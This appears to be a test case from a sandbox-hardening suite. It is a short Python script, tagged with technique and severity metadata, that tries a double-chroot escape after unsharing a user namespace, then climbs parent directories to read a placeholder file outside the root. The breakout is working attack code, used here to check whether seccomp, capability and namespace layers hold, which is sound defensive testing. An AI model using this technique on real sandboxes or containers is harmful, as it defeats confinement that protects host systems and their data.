# technique: leave a root by a second chroot below the working directory
# family: C1
# severity: C
# layers: seccomp, capabilities, mount_namespace
# profile: python-full
import os

os.mkdir("a")
call("unshare", 0x10000000)  # what lets a control do it
e = call("chroot", b".")[1] or call("chroot", b"a")[1]
# The working directory is now above the root, where .. does not stop.
for _ in range(40):
    os.chdir("..")
if e:
    held("chroot: " + e)
elif os.path.exists("@READABLE@"[1:]):
    won("read %s" % open("@READABLE@"[1:]).read())
else:
    held("nothing is above")
